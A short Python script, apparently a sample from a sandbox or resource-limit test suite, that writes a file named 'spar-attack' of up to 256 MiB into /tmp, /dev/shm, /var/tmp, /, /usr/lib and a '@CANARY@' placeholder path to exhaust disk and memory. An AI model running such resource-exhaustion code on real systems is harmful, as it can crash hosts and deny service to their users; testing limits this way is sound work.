# Fills the disk and the memory behind file systems.
import os
def f(n):
    wrote = 0
    for place in ("/tmp", "/dev/shm", "/var/tmp", ".", "/", "@CANARY@", "/usr/lib"):
        try:
            with open(os.path.join(place, "spar-attack"), "wb") as out:
                while wrote < 1 << 28:
                    wrote += out.write(b"x" * (1 << 20))
        except OSError:
            pass
    return wrote
